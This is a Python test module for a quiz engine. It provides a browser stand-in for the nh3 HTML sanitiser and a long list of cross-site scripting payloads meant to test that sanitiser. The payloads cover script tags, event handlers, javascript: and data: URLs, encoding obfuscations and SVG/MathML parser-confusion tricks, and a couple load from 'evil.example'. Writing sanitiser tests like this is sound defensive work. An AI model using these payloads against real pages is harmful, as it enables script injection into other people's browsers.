"""What stands in for nh3 in a browser, and markup that tries to get through it."""

from __future__ import annotations

from types import ModuleType
from typing import Any

from quiz_engine.browser.sources import stand_ins


def stand_in() -> Any:  # noqa: ANN401 - a module that nobody has typed
    """Return the module that a browser is given for nh3."""
    module = ModuleType("nh3")
    code = compile(stand_ins("nh3")["nh3/__init__.py"], "nh3", "exec")
    exec(code, module.__dict__)  # noqa: S102 - our own module, which is no file that can be imported
    return module


VECTORS = (
    # Elements that run, load or frame something.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<script><!--<script></script>--><img src=x onerror=alert(1)></script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//><a href=#>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<portal src=javascript:alert(1)>",
    "<slot onslotchange=alert(1)>",
    # Handlers on what may be there.
    "<b onclick=alert(1)>x</b>",
    "<p/onmouseover=alert(1)>x</p>",
    "<img src=x onerror=alert(1)>",
    "<img src='assets/x.png' onload='alert(1)'>",
    '<img alt="x" onerror="alert(1)" src="assets/x.png"/onerror=alert(1)>',
    "<img src=assets/x.png\nonerror\n=\nalert(1)>",
    "<img \x0c onerror=alert(1) src=x>",
    "<a href=x onclick=alert(1) href=y>x</a>",
    '<a title="x" style="background:url(javascript:alert(1))">x</a>',
    "<b id=location name=cookie class=x>x</b>",
    # Addresses.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=blob:https://x/y>x</a>",
    "<a href='javascript\x00:alert(1)'>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<img src=//evil.example/x.png>",
    "<img src=assets/../../x.png>",
    # Quotes and brackets that end too early.
    '<a title="&quot;><script>alert(1)</script>">x</a>',
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    '<abbr title="</abbr><script>alert(1)</script>">x</abbr>',
    '<img alt="`><img src=x onerror=alert(1)>" src=assets/x.png>',
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "\u00abscript\u00bbalert(1)\u00ab/script\u00bb",
    "\uff1cscript\uff1ealert(1)",
    # What parsers take differently from one time to the next.
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style><a title='</style><img src=x onerror=alert(1)>'></style>",
    "<style><!--</style><img src=x onerror=alert(1)>//-->",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><a title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<plaintext><b>x",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<pre>\n\n<b>x</b></pre>",
    "<select><template><option><script>alert(1)</script></select>",
    "<table><td><b><a href=javascript:alert(1)>x</table></b>",
    "<a><a href=javascript:alert(1)><b></a></b></a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!-><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<![if x]><b>y</b><![endif]>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "</><//script><b>x",
    "<b <i>x</i></b>",
    "<b><p>x</b></p></i>",
    "<x:b onclick=alert(1)>x</x:b>",
    "<b\x00 onclick=alert(1)>x\x00y</b>",
    "<a\x0bhref=javascript:alert(1)>x</a>",
    "<a href=\ud800javascript:alert(1)>\udfff</a>",
)
"""Attempts to have a page do something, each in a way of its own."""
